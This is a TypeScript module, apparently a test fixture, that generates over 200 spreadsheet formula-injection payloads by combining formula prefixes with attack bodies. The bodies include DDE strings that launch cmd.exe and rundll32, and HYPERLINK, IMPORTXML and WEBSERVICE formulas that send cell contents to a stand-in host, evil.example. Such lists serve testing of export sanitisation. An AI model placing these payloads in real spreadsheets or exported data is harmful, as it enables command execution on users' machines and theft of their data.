// Texts that a spreadsheet might run: every way to begin a formula, times what people put into one.

const begins = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  ';=',
  '\u200b=',
  '\ufeff=',
  '=\u00a0',
  '%0A=',
];
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example/?x="&A1,"คลิก")',
  'IMPORTXML(CONCAT("https://evil.example/?",A1),"//a")',
  'WEBSERVICE("https://evil.example/"&A1)',
  'DDE("cmd";"/C calc";"x")',
  "SUM(1+1)*cmd|'/C notepad'!A1",
  "rundll32|'URL.dll,OpenURL calc.exe'!A",
  "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!",
  "2+5+cmd|' /C calc'!A0",
  '10;1',
  '"=1+1"',
];

/** More than 200 different ones. */
export const formulaPayloads: readonly string[] = begins.flatMap((begin) => bodies.map((body) => `${begin}${body}`));
